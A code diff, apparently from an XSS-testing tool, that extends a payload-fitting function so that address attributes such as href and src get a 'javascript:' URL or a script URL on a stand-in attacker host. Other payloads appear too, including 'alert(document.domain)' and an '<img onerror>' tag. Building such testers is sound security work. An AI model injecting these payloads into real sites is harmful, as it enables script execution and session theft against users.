@@ -147,8 +147,16 @@ const redirect: Fitting = (context) => {
 
 const script = 'alert(document.domain)';
 
-const markup: Fitting = (context) => {
+/** Attributes of elements whose value is an address: `<a href>` of React, `<html.script>.src`, Vue's `_href`. */
+const addressAttribute = /[ ._](?:href|src|action|formaction|data)>?$/i;
+
+const markup: Fitting = (context, { sinkApi }) => {
   const image = `<img src=x onerror=${script}>`;
+  if (addressAttribute.test(sinkApi) && !context?.before.trim())
+    return supports(
+      sinkApi.includes('script') ? 'https://attacker.example/x.js' : `javascript:${script}`,
+      'as the whole address',
+    );
   const place = htmlContext(context?.before ?? '');
   switch (place.place) {
     case 'text':
